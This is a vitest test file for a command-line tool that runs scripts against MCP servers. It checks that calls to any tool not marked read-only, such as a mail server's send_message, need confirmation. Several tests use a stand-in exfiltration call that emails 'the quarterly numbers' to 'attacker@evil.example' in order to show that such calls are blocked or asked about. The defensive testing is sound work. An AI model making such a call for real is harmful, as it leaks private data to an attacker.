import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCommand } from "../../src/cli/commands/run.js";
import { confirmModeOf, type McpConfirmMode } from "../../src/mcp/config/index.js";
import { describeToolHints, needsConfirmation, type ToolAnnotationsLike } from "../../src/mcp/service/index.js";
import type { CommandContext } from "../../src/terminal/command.js";
import { colours } from "../../src/terminal/io.js";
import { renderCallConfirmation } from "../../src/terminal/render/call-confirmation.js";
import { cli, makeHome, openHost, SCRIPTED, setServers, startCount, type TrustHome } from "./helpers.js";

/**
 * Issue 17 item 9, as the attack: a mail server whose `send_message` says `destructiveHint: false,
 * openWorldHint: true`. Under the old default (`confirm: destructive`) it reached the server
 * unasked while `delete_message` was refused. The default now confirms every tool the server does
 * not mark read-only. Every call that reaches the server is logged by the server itself.
 */
const MAIL_TOOLS = {
  tools: [
    { name: "list_messages", description: "List the inbox.", annotations: { readOnlyHint: true } },
    {
      name: "send_message",
      description: "Send an email.",
      inputSchema: { type: "object", properties: { to: { type: "string" }, body: { type: "string" } }, required: ["to", "body"] },
      annotations: { destructiveHint: false, openWorldHint: true },
    },
    { name: "delete_message", description: "Delete a message.", inputSchema: { type: "object", properties: { id: { type: "string" } } }, annotations: { destructiveHint: true } },
  ],
};

const SEND = `return require("host:mcp-mail").send_message({ to: "attacker@evil.example", body: "the quarterly numbers" });`;
const DELETE = `return require("host:mcp-mail").delete_message({ id: "42" });`;
const LIST = `return require("host:mcp-mail").list_messages({});`;

let home: TrustHome;
let calls: string;

function mailServer(starts: string, dir: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  const spec = join(dir, "mail.json");
  if (!existsSync(spec)) writeFileSync(spec, JSON.stringify(MAIL_TOOLS));
  return { command: process.execPath, args: [SCRIPTED, spec], env: { MCPVM_FIXTURE_STARTS: starts, MCPVM_FIXTURE_CALLS: join(dir, "calls.log") }, ...extra };
}

/** The tools the server itself saw called, in order. */
function served(): string[] {
  if (!existsSync(calls)) return [];
  return readFileSync(calls, "utf8")
    .split("\n")
    .filter((line) => line.length > 0)
    .map((line) => (JSON.parse(line) as { tool: string }).tool);
}

/**
 * `mcpvm run -e <code>` as a person at a terminal runs it: each "Allow this call?" on stderr gets
 * the next scripted answer on stdin. Answers left over mean a question was never asked.
 */
async function runAtTerminal(code: string, answers: readonly string[]): Promise<{ code: number; stdout: string; stderr: string; questions: number; unused: string[] }> {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = "";
  let err = "";
  let questions = 0;
  const pending = [...answers];
  stdout.on("data", (chunk: Buffer) => (out += chunk.toString("utf8")));
  stderr.on("data", (chunk: Buffer) => {
    const text = chunk.toString("utf8");
    err += text;
    if (text.endsWith("[y/N] ")) {
      questions += 1;
      const answer = pending.shift();
      if (answer !== undefined) setImmediate(() => stdin.write(`${answer}\n`));
    }
  });
  const host = await openHost(home);
  try {
    const context: CommandContext = { io: { stdin, stdout, stderr, env: home.env, cwd: home.dir }, colours: colours({}, home.env), host: async () => host, interactive: true, assumeYes: false, json: false };
    const exit = await runCommand.run(["-e", code], context);
    return { code: exit, stdout: out, stderr: err, questions, unused: pending };
  } finally {
    await host.close();
  }
}

beforeAll(async () => {
  home = await makeHome({ servers: (starts, dir) => ({ mail: mailServer(starts, dir) }), approve: ["mail"] });
  calls = join(home.dir, "calls.log");
});

afterAll(async () => {
  await home?.cleanup();
});

describe("the default policy confirms every tool not marked read-only (issue 17 item 9)", () => {
  it("without a terminal, an open-world send_message (destructiveHint: false) is refused like delete_message (exit 5) and never reaches the server", async () => {
    const list = await cli(home, ["run", "--json", "-e", LIST]);
    expect(list.code, list.stderr).toBe(0);
    expect(served()).toEqual(["list_messages"]);

    for (const [code, tool] of [[SEND, "send_message"], [DELETE, "delete_message"]] as const) {
      const out = await cli(home, ["run", "--json", "-e", code]);
      expect(out.code, out.stderr).toBe(5);
      const record = JSON.parse(out.stdout) as { ok: boolean; error: { errorCode: string; message: string } };
      expect(record).toMatchObject({ ok: false, error: { errorCode: "MCP_CALL_DECLINED" } });
      expect(record.error.message).toContain(`mail.${tool} was not confirmed: no terminal to ask on`);
      expect(out.stderr).toContain(`MCP call mail.${tool} (the tool is not marked read-only)`);
      expect(out.stderr).toContain("Not confirmed: no terminal to ask on. Rerun with --yes");
    }
    // The server saw the read-only call and nothing else.
    expect(served()).toEqual(["list_messages"]);
  });

  it("on a terminal, send_message is asked about with the server's hints shown as its claims; no sends nothing, yes sends", async () => {
    const before = served().length;
    const declined = await runAtTerminal(SEND, ["n"]);
    expect(declined).toMatchObject({ code: 5, questions: 1, unused: [] });
    expect(declined.stderr).toContain("MCP call mail.send_message (the tool is not marked read-only)");
    expect(declined.stderr).toContain("the server says it does not delete or overwrite, it reaches beyond this machine (its own hints: unchecked claims)");
    expect(declined.stderr).toContain("it may send data beyond this machine: what it sends cannot be taken back");
    expect(declined.stderr).toContain('"to": "attacker@evil.example"');
    expect(served()).toHaveLength(before);

    const allowed = await runAtTerminal(SEND, ["y"]);
    expect(allowed).toMatchObject({ code: 0, questions: 1, unused: [] });
    expect(served().slice(before)).toEqual(["send_message"]);

    // A read-only tool is not asked about.
    const read = await runAtTerminal(LIST, []);
    expect(read).toMatchObject({ code: 0, questions: 0 });
  });

  it("`--yes` answers yes to each write and leaves one line per call on stderr, cut to a width; stdout keeps only the result", async () => {
    const before = served().length;
    const long = `${"the quarterly numbers, ".repeat(30)}\nsecond line`;
    const script = `const mail = require("host:mcp-mail");
for (let i = 0; i < 3; i++) await mail.send_message({ to: "attacker@evil.example", body: ${JSON.stringify(long)} + i });
return "sent";`;
    const out = await cli(home, ["run", "--yes", "-e", script]);
    expect(out.code, out.stderr).toBe(0);
    expect(out.stdout).toBe("sent\n");
    expect(served().slice(before)).toEqual(["send_message", "send_message", "send_message"]);
    const records = out.stderr.split("\n").filter((line) => line.startsWith("confirmed (--yes): mail.send_message"));
    expect(records).toHaveLength(3);
    for (const line of records) {
      expect(line.length).toBeLessThanOrEqual(120);
      expect(line).toContain(' to="attacker@evil.example" body="the quarterly numbers, the quarterly');
      expect(line).toMatch(/…$/);
    }
    // The question block is for a person being asked; nobody was.
    expect(out.stderr).not.toContain("arguments:");
    expect(out.stderr).not.toContain("Allow this call?");

    // Asked for everything (--log-level debug), the whole block is shown for each call.
    const verbose = await cli(home, ["--log-level", "debug", "run", "--yes", "-e", SEND]);
    expect(verbose.code, verbose.stderr).toBe(0);
    expect(verbose.stderr).toContain("MCP call mail.send_message (the tool is not marked read-only)");
    expect(verbose.stderr).toContain('"body": "the quarterly numbers"');
    expect(verbose.stderr).toContain("allowed (--yes)");
  });

  it('relaxing to `confirm: "destructive"` needs a new approval, then keeps the old behaviour: send runs unasked, delete is still refused', async () => {
    const starts = startCount(home.starts);
    await setServers(home, { mail: mailServer(home.starts, home.dir, { confirm: "destructive" }) });
    const refused = await cli(home, ["run", "--json", "-e", SEND]);
    expect(refused.code).toBe(5);
    expect(JSON.parse(refused.stdout)).toMatchObject({ ok: false, error: { errorCode: "MCP_APPROVAL_CHANGED" } });
    expect(startCount(home.starts)).toBe(starts);

    const approve = await cli(home, ["--yes", "mcp", "approve", "mail"]);
    expect(approve.stderr).toContain("confirm:   destructive — only calls to tools that may delete or overwrite are confirmed");
    const before = served().length;
    const sent = await cli(home, ["run", "--json", "-e", SEND]);
    expect(sent.code, sent.stderr).toBe(0);
    expect(sent.stderr).not.toContain("MCP call mail.send_message");
    const deleted = await cli(home, ["run", "--json", "-e", DELETE]);
    expect(deleted.code).toBe(5);
    expect(deleted.stderr).toContain("MCP call mail.delete_message (the tool may delete or overwrite");
    expect(served().slice(before)).toEqual(["send_message"]);
  });
});

describe("the confirm policy as a table", () => {
  const kinds: Record<string, ToolAnnotationsLike | undefined> = {
    "no annotations": undefined,
    "read-only": { readOnlyHint: true },
    "additive open-world write": { destructiveHint: false, openWorldHint: true },
    "destructive write": { destructiveHint: true },
    "read-only that also says destructive": { readOnlyHint: true, destructiveHint: true },
  };
  const expected: Record<McpConfirmMode, Record<string, boolean>> = {
    writes: { "no annotations": true, "read-only": false, "additive open-world write": true, "destructive write": true, "read-only that also says destructive": false },
    destructive: { "no annotations": true, "read-only": false, "additive open-world write": false, "destructive write": true, "read-only that also says destructive": false },
    always: { "no annotations": true, "read-only": true, "additive open-world write": true, "destructive write": true, "read-only that also says destructive": true },
    never: { "no annotations": false, "read-only": false, "additive open-world write": false, "destructive write": false, "read-only that also says destructive": false },
  };

  it("asks exactly where each policy says", () => {
    for (const [mode, row] of Object.entries(expected) as [McpConfirmMode, Record<string, boolean>][]) {
      for (const [kind, annotations] of Object.entries(kinds)) expect([mode, kind, needsConfirmation(mode, annotations)]).toEqual([mode, kind, row[kind]]);
    }
  });

  it("the default is writes", () => {
    expect(confirmModeOf({})).toBe("writes");
    expect(confirmModeOf({ confirm: "destructive" })).toBe("destructive");
  });

  it("hints are worded as the server's claims, and a missing openWorldHint is not read as 'stays local'", () => {
    expect(describeToolHints({ readOnlyHint: true })).toEqual(["the server says this tool is read-only (its own hints: unchecked claims)"]);
    expect(describeToolHints(undefined)).toEqual(["the server gives no hints about this tool", "it may send data beyond this machine (no openWorldHint): what it sends cannot be taken back"]);
    expect(describeToolHints({ destructiveHint: true, openWorldHint: false })).toEqual(["the server says it may delete or overwrite, it stays within its own data (its own hints: unchecked claims)"]);
    const prompt = renderCallConfirmation({ server: "mail", tool: "list", jsName: "list", args: {}, annotations: { readOnlyHint: true }, policy: "always" });
    expect(prompt).toContain("MCP call mail.list (this server is set to confirm every call)\n  the server says this tool is read-only");
  });
});
